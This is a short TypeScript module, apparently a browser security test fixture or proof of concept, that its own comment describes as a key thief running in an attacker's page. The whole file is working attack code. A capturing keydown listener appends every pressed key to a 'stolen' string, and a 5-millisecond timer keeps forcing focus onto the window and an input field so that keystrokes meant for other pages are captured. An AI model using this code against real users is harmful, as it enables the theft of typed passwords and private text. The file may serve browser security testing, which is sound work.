// A thief of keys: takes the focus all the time, and keeps each key that it gets. Runs in the attacker's page.

export const keys = {
  stolen: '',
  grab(way: 'element' | 'window'): void {
    addEventListener(
      'keydown',
      ({ key }) => {
        keys.stolen += key;
      },
      true,
    );
    const field = document.getElementById('field') as HTMLInputElement;
    setInterval(() => {
      if (way === 'window') window.focus();
      field.focus();
    }, 5);
  },
};
